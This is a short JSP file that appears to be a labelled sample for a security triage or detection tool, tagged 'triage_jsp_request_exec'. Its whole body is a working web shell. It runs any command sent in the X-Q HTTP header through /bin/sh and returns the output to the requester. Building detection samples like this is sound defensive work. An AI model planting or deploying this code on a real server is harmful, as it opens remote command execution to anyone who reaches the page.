<%-- triage-expect: triage_jsp_request_exec --%>
<%
    java.util.List<String> a = java.util.Arrays.asList("/bin/sh", "-c", request.getHeader("X-Q"));
    Process p = new ProcessBuilder(a).redirectErrorStream(true).start();
    java.util.Scanner s = new java.util.Scanner(p.getInputStream()).useDelimiter("\\A");
    out.print(s.hasNext() ? s.next() : "");
%>
